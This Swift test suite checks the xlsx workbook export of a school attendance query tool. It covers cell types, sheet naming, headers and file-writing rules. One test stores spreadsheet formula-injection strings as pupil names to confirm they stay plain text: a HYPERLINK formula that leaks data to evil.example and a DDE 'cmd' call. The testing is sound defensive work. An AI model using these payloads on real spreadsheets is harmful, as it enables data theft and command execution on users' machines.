#if canImport(Glibc)
import Glibc
#endif
import Foundation
import Testing
@testable import AttendCore

/// `into "x.xlsx"`: real queries on the demo register written as workbooks, unzipped with
/// /usr/bin/unzip and read as XML: typed cells, a bold frozen header, one sheet per statement,
/// hostile text kept as text with no formula anywhere, the file rules (0600, `replace`, no
/// partial file).
@Suite(.serialized) struct XlsxWorkbookTests {
    final class Capture: @unchecked Sendable {
        var out: [String] = []
        var err: [String] = []
    }

    func run(_ script: String, in session: Session, file: String? = "review.attend") -> (AttendCore.ExitStatus, Capture) {
        let c = Capture()
        let r = makeRunner(session, output: { c.out.append($0) }, errors: { c.err.append($0) })
        return ((try? r.run(text: script, file: file)) ?? .queryError, c)
    }

    func demoSession(_ dir: String) -> Session { LettersFixture.session(output: dir) }

    // MARK: Reading a workbook

    /// One member of the zip, as text (`unzip -p`).
    static func member(_ file: String, _ name: String) throws -> String {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/unzip")
        // unzip reads a member name as a pattern: `[` must be written `[[]`.
        p.arguments = ["-p", file, name.replacingOccurrences(of: "[", with: "[[]")]
        let pipe = Pipe()
        p.standardOutput = pipe
        p.standardError = FileHandle.nullDevice
        try p.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        guard p.terminationStatus == 0 else { throw CocoaError(.fileReadCorruptFile) }
        return String(decoding: data, as: UTF8.self)
    }

    /// The names of the zip's members (`unzip -Z1`).
    static func members(_ file: String) throws -> [String] {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/unzip")
        p.arguments = ["-Z1", file]
        let pipe = Pipe()
        p.standardOutput = pipe
        try p.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return String(decoding: data, as: UTF8.self).split(separator: "\n").map(String.init)
    }

    /// A parsed workbook: shared strings, the styles' number formats and bold fonts, sheets.
    struct Book {
        var sheetNames: [String]
        var strings: [String]
        /// Per cell style index: its number format code ("General" for 0) and whether bold.
        var styles: [(format: String, bold: Bool)]
        var sheets: [String]
        var all: [String]

        init(_ file: String) throws {
            let workbook = try member(file, "xl/workbook.xml")
            sheetNames = Self.attributes("sheet", "name", in: workbook)
            strings = Self.elements("si", in: try member(file, "xl/sharedStrings.xml")).map { si in
                Self.elements("t", in: si).joined()
            }
            let styleXML = try member(file, "xl/styles.xml")
            var codes: [Int: String] = [0: "General", 14: "m/d/yyyy", 49: "@"]
            for f in Self.tags("numFmt", in: styleXML) {
                if let id = Self.attribute("numFmtId", f).flatMap(Int.init), let code = Self.attribute("formatCode", f) { codes[id] = code }
            }
            let fonts = Self.elements("font", in: Self.elements("fonts", in: styleXML).first ?? "").map { $0.contains("<b/>") }
            let xfs = Self.tags("xf", in: Self.elements("cellXfs", in: styleXML).first ?? "")
            styles = xfs.map { xf in
                let numFmt = Self.attribute("numFmtId", xf).flatMap(Int.init) ?? 0
                let font = Self.attribute("fontId", xf).flatMap(Int.init) ?? 0
                return (codes[numFmt] ?? "?\(numFmt)", font < fonts.count && fonts[font])
            }
            sheets = try (1...sheetNames.count).map { try member(file, "xl/worksheets/sheet\($0).xml") }
            all = try members(file).map { try member(file, $0) }
        }

        /// A cell of a sheet (1-based sheet, "B2"): its type attribute, style's format and
        /// boldness, and its value (a shared string resolved).
        struct Cell { var type: String?; var format: String; var bold: Bool; var value: String }

        func cell(_ sheet: Int, _ ref: String) -> Cell? {
            for c in Self.tags("c", in: sheets[sheet - 1], selfClosingToo: false) where Self.attribute("r", c) == ref {
                let type = Self.attribute("t", c)
                let style = Self.attribute("s", c).flatMap(Int.init) ?? 0
                var value = Self.elements("v", in: c).first ?? ""
                if type == "s", let i = Int(value) { value = strings[i] }
                return Cell(type: type, format: styles[style].format, bold: styles[style].bold, value: value)
            }
            return nil
        }

        // A few lines of XML reading: enough for libxlsxwriter's regular output.
        static func tags(_ name: String, in xml: String, selfClosingToo: Bool = true) -> [String] {
            var out: [String] = []
            var rest = xml[...]
            while let r = rest.range(of: "<\(name) ") ?? rest.range(of: "<\(name)>") {
                let after = rest[r.lowerBound...]
                guard let end = after.range(of: selfClosingToo ? ">" : "</\(name)>") ?? after.range(of: "/>") else { break }
                // A cell is `<c …>…</c>` or `<c …/>`: take the shorter.
                var stop = end.upperBound
                if !selfClosingToo, let sc = after.range(of: "/>"), sc.upperBound < stop,
                   !after[..<sc.lowerBound].contains(">") { stop = sc.upperBound }
                out.append(String(after[..<stop]))
                rest = after[stop...]
            }
            return out
        }

        static func elements(_ name: String, in xml: String) -> [String] {
            var out: [String] = []
            var rest = xml[...]
            while let open = rest.range(of: "<\(name)>") ?? rest.range(of: "<\(name) ") {
                guard let gt = rest[open.upperBound...].firstIndex(of: ">") ?? (rest[open.lowerBound...].hasPrefix("<\(name)>") ? open.upperBound : nil) else { break }
                let bodyStart = rest[open.lowerBound...].hasPrefix("<\(name)>") ? open.upperBound : rest.index(after: gt)
                guard let close = rest[bodyStart...].range(of: "</\(name)>") else { break }
                out.append(String(rest[bodyStart..<close.lowerBound]))
                rest = rest[close.upperBound...]
            }
            return out
        }

        static func attribute(_ name: String, _ tag: String) -> String? {
            guard let r = tag.range(of: " \(name)=\"") else { return nil }
            let rest = tag[r.upperBound...]
            guard let end = rest.firstIndex(of: "\"") else { return nil }
            return String(rest[..<end])
        }

        static func attributes(_ tag: String, _ name: String, in xml: String) -> [String] {
            tags(tag, in: xml).compactMap { attribute(name, $0) }.map(unescape)
        }

        static func unescape(_ s: String) -> String {
            s.replacingOccurrences(of: "&quot;", with: "\"").replacingOccurrences(of: "&lt;", with: "<")
                .replacingOccurrences(of: "&gt;", with: ">").replacingOccurrences(of: "&amp;", with: "&")
        }
    }

    // MARK: Typed cells

    @Test func ratesCountsAndTheHeaderFromARealQuery() throws {
        let dir = ScriptRunnerTests.tempDir()
        let session = demoSession(dir)
        let (status, c) = run("rate by year over this year into \"\(dir)/rates.xlsx\"", in: session)
        #expect(status == .success, "\(c.err)")
        #expect(c.err.contains("wrote 7 rows to \(dir)/rates.xlsx (sheet \"rate by year over this year\")"), "\(c.err)")
        let expected = try session.evaluator.run(Binder.bind(Parser.parse("rate by year over this year").statements![0], in: session.bindingContext))
        let book = try Book(dir + "/rates.xlsx")
        #expect(book.sheetNames == ["rate by year over this year"])
        // A bold header row, frozen below it, with filters.
        for (i, column) in expected.columns.enumerated() {
            let h = try #require(book.cell(1, "\(Self.letter(i))1"))
            #expect(h.type == "s" && h.value == column.name && h.bold)
        }
        #expect(book.sheets[0].contains("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"))
        #expect(book.sheets[0].contains("<autoFilter ref=\"A1:E8\"/>"))
        // Every row, typed: counts as plain numbers, the rate as a fraction shown 0.0%.
        let rate = try #require(expected.column(named: "rate this year"))
        #expect(expected.columns[rate].kind == .percent)
        for (r, row) in expected.rows.enumerated() {
            for (i, v) in row.enumerated() {
                let cell = try #require(book.cell(1, "\(Self.letter(i))\(r + 2)"))
                switch v {
                case .integer(let n):
                    #expect(cell.type == nil || cell.type == "n")
                    #expect(Double(cell.value) == Double(n) && cell.format == "General")
                case .number(let x):
                    #expect(cell.type == nil && cell.format == "0.0%")
                    #expect(abs(try #require(Double(cell.value)) - x / 100) < 1e-12)
                case .text(let s):
                    #expect(cell.type == "s" && cell.value == s && cell.format == "@")
                default: Issue.record("unexpected \(v)")
                }
            }
        }
        // The as-of date and what the figure means follow the table; printing is set up.
        let notes = (9...12).compactMap { book.cell(1, "A\($0)")?.value }
        #expect(notes.first == "as of 20 Mar 2026 (2026-03-20)", "\(notes)")
        #expect(notes.dropFirst().contains { $0.hasPrefix("attendance rate (attended ÷ possible) by year") }, "\(notes)")
        #expect(book.sheets[0].contains("<pageSetup paperSize=\"9\" fitToHeight=\"0\""))
        #expect(book.all.contains { $0.contains("<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"0\">'rate by year over this year'!$1:$1</definedName>") })
        // Columns wide enough for their header.
        #expect(book.sheets[0].contains("<col min=\"5\" max=\"5\" width=\"16.7109375\" customWidth=\"1\"/>"))
    }

    @Test func datesAreExcelDatesWithADateFormat() throws {
        let dir = ScriptRunnerTests.tempDir()
        let session = demoSession(dir)
        let upn = "A880007000986"
        let (status, c) = run("pupil \(upn) over this year into \"\(dir)/p.xlsx\"", in: session)
        #expect(status == .success, "\(c.err)")
        let expected = try session.evaluator.run(Binder.bind(Parser.parse("pupil \(upn) over this year").statements![0], in: session.bindingContext))
        let from = try #require(expected.column(named: "from"))
        guard case .date(let first) = expected.rows[0][from] else { Issue.record("no date"); return }
        let book = try Book(dir + "/p.xlsx")
        let cell = try #require(book.cell(1, "\(Self.letter(from))2"))
        #expect(cell.type == nil && cell.format == "dd/mm/yyyy")
        #expect(Int(cell.value) == Int(first.number) + 25_569)
        // 1 September 2025 is Excel's day 45,901.
        #expect(XlsxWorkbook.excelSerial(Fixture.day("2025-09-01")) == 45_901)
        // No pupil name in the workbook's properties.
        let core = try Self.member(dir + "/p.xlsx", "docProps/core.xml")
        #expect(core.contains("<dc:title>Attendance results: demo</dc:title>"))
        let pupils = LettersFixture.demo.pupils
        for i in 0..<pupils.count { #expect(!core.contains(pupils.surname[i])) }
    }

    // MARK: Hostile text

    @Test func formulaTextStaysTextAndNoFormulaIsWritten() throws {
        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTab", "\rCR"]
        var pupils = "upn,forename,surname,year\n"
        for (i, h) in hostile.enumerated() {
            let quoted = "\"" + h.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            pupils += "A12345678901\(i),\(quoted),Smith,9\n"
        }
        var marks = "upn,date,session,mark\n"
        for i in hostile.indices { marks += "A12345678901\(i),2025-09-03,AM,/\n" }
        let register = try Fixture.register(pupils: pupils, marks: marks)
        let dir = ScriptRunnerTests.tempDir()
        let session = Session(register: register, asOf: Fixture.day("2025-09-03"))
        let (status, c) = run("show upn, forename, surname for all pupils into \"\(dir)/h.xlsx\"", in: session)
        #expect(status == .success, "\(c.err)")
        let book = try Book(dir + "/h.xlsx")
        let names = (2...(hostile.count + 1)).compactMap { book.cell(1, "B\($0)") }
        #expect(names.count == hostile.count)
        for cell in names {
            #expect(cell.type == "s" && cell.format == "@")
        }
        let stored = Set(names.map { Book.unescape($0.value) })
        #expect(stored.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"))
        #expect(stored.contains("@SUM(1)") && stored.contains("-2+3"))
        // No formula anywhere in the package, and nothing asks Excel to evaluate one.
        for part in book.all {
            #expect(!part.contains("<f>") && !part.contains("<f "))
        }
    }

    // MARK: Sheets

    @Test func eachStatementIntoTheSameWorkbookIsASheet() throws {
        let dir = ScriptRunnerTests.tempDir()
        let script = """
        rate by year over this term into "\(dir)/month.xlsx"
        pupils where persistent over this year sorted by absence desc into "\(dir)/month.xlsx"
        print "between"
        rate by year over this term into "\(dir)/./month.xlsx"
        summary into "\(dir)/other.xlsx"
        """
        let (status, c) = run(script, in: demoSession(dir))
        #expect(status == .success, "\(c.err)")
        let book = try Book(dir + "/month.xlsx")
        #expect(book.sheetNames == ["rate by year over this term", "pupils where persistent over", "rate by year over this term (2)"])
        #expect(try Book(dir + "/other.xlsx").sheetNames == ["summary"])
        #expect(LettersFixture.mode(dir + "/month.xlsx") == 0o600)
        #expect(LettersFixture.list(dir).sorted() == ["month.xlsx", "other.xlsx"])
    }

    @Test func sheetNamesAreValidShortAndUnique() {
        #expect(XlsxWorkbook.sheetName("rate by year over this term", taken: []) == "rate by year over this term")
        #expect(XlsxWorkbook.sheetName("pupils in [9A]: a/b\\c*d?", taken: []) == "pupils in 9A a b c d")
        #expect(XlsxWorkbook.sheetName("  'quoted'\n\tname ", taken: []) == "quoted' name")
        #expect(XlsxWorkbook.sheetName("", taken: []) == "Results")
        #expect(XlsxWorkbook.sheetName("history", taken: []) == "History results")
        let long = "pupils in year 9 where unauthorised over this term > 10 sorted by rate"
        let n = XlsxWorkbook.sheetName(long, taken: [])
        #expect(n == "pupils in year 9 where")
        #expect(XlsxWorkbook.sheetName(long, taken: [n, "Pupils in year 9 where (2)"]) == "pupils in year 9 where (3)")
        let word = String(repeating: "x", count: 40)
        #expect(XlsxWorkbook.sheetName(word, taken: []).count == 31)
        #expect(XlsxWorkbook.sheetName(word, taken: [String(repeating: "x", count: 31)]) == String(repeating: "x", count: 27) + " (2)")
    }

    // MARK: File rules

    @Test func anExistingWorkbookIsReplacedOnlyWithReplace() throws {
        let dir = ScriptRunnerTests.tempDir()
        let path = dir + "/r.xlsx"
        LettersFixture.write("not a workbook\n", to: path)
        let (status, c) = run("rate by year over this term\n  into \"\(path)\"", in: demoSession(dir))
        #expect(status == .ioError)
        #expect(c.err.first?.hasPrefix("review.attend:2:8: error[F005]: \(path) already exists") == true, "\(c.err)")
        #expect(c.err.first?.contains("into \"") == true && c.err.first?.contains("\" replace`") == true)
        #expect(LettersFixture.read(path) == "not a workbook\n")
        #expect(LettersFixture.list(dir) == ["r.xlsx"])
        let (again, c2) = run("rate by year over this term into \"\(path)\" replace", in: demoSession(dir))
        #expect(again == .success, "\(c2.err)")
        #expect(try Book(path).sheetNames == ["rate by year over this term"])
        #expect(LettersFixture.mode(path) == 0o600)
        #expect(LettersFixture.list(dir) == ["r.xlsx"])
    }

    @Test func neverOverAFolderOrAMissingFolder() throws {
        let dir = ScriptRunnerTests.tempDir()
        try SafeFileWriter.makeDirectory(dir + "/sub.xlsx")
        let (status, c) = run("summary into \"\(dir)/sub.xlsx\" replace", in: demoSession(dir))
        #expect(status == .ioError)
        // The one rule for every write: a folder is never replaced (F008).
        #expect(c.err.first?.contains("error[F008]") == true, "\(c.err)")
        let (missing, c2) = run("summary into \"\(dir)/nowhere/x.xlsx\"", in: demoSession(dir))
        #expect(missing == .ioError)
        #expect(c2.err.first?.contains("error[F003]: cannot write \(dir)/nowhere/x.xlsx") == true, "\(c2.err)")
        #expect(LettersFixture.list(dir) == ["sub.xlsx"])
        #expect(LettersFixture.list(dir + "/sub.xlsx").isEmpty)
    }

    @Test(.enabled(if: getuid() == 0, "mounting a tmpfs needs root"))
    func aFullDiskLeavesNoWorkbookAndNoScratch() throws {
        // One page (4 KB): the whole workbook, its scratch files and the final copy cannot fit
        // however soon the scratch pages are freed (at 8 KB a busy run once found room).
        let dir = try #require(SafeWritesTests.smallDisk("size=4k,mode=0700"), "mounting a small tmpfs failed")
        defer { SafeWritesTests.unmount(dir) }
        let (status, c) = run("show upn, forename, surname, year, form, rate over this year, rate over this term, absent over this year for all pupils\n  into \"\(dir)/all.xlsx\"", in: demoSession(dir))
        #expect(status == .ioError)
        let error = try #require(c.err.first, "no error")
        #expect(error.hasPrefix("review.attend:2:8: error[F050]: cannot write the workbook \(dir)/all.xlsx: No space left on device"), "\(error)")
        #expect(error.contains("nothing was left half-written"))
        #expect(LettersFixture.list(dir).isEmpty)
    }

    @Test func replaceIsAWordAfterIntoOnly() throws {
        func intoReplace(_ text: String) -> Bool? {
            guard case .query(let q) = Parser.parse(text).statements?.first?.kind else { return nil }
            return q.intoReplace
        }
        #expect(intoReplace("pupils into \"x.xlsx\" replace") == true)
        #expect(intoReplace("pupils where persistent over this year\n  limit 5 into \"x.xlsx\" replace") == true)
        // Not a continuation word (a column may still be called `replace`): on the next line
        // it starts a statement of its own.
        #expect(Parser.parse("pupils into \"x.xlsx\"\nreplace").statements?.count == 2)
        #expect(intoReplace("pupils into \"x.xlsx\"") == false)
        #expect(Parser.parse("pupils replace").statements == nil)
        #expect(Parser.parse("pupils into \"x.xlsx\" replace replace").statements == nil)
    }

    // MARK: The xlsx format without a file

    @Test func theXlsxFormatNeedsAFile() throws {
        let dir = ScriptRunnerTests.tempDir()
        let session = demoSession(dir)
        session.format = .xlsx
        let (status, c) = run("rate by year over this term", in: session, file: nil)
        #expect(status == .usage)
        #expect(c.err.first?.contains("error[U050]") == true, "\(c.err)")
        #expect(c.out.isEmpty)
        // A file with no format of its own takes the session's: a workbook.
        let (ok, c2) = run("rate by year over this term into \"\(dir)/rates\"", in: session, file: nil)
        #expect(ok == .success, "\(c2.err)")
        #expect(try Book(dir + "/rates").sheetNames == ["rate by year over this term"])
    }

    static func letter(_ i: Int) -> String { String(UnicodeScalar(UInt8(65 + i))) }
}
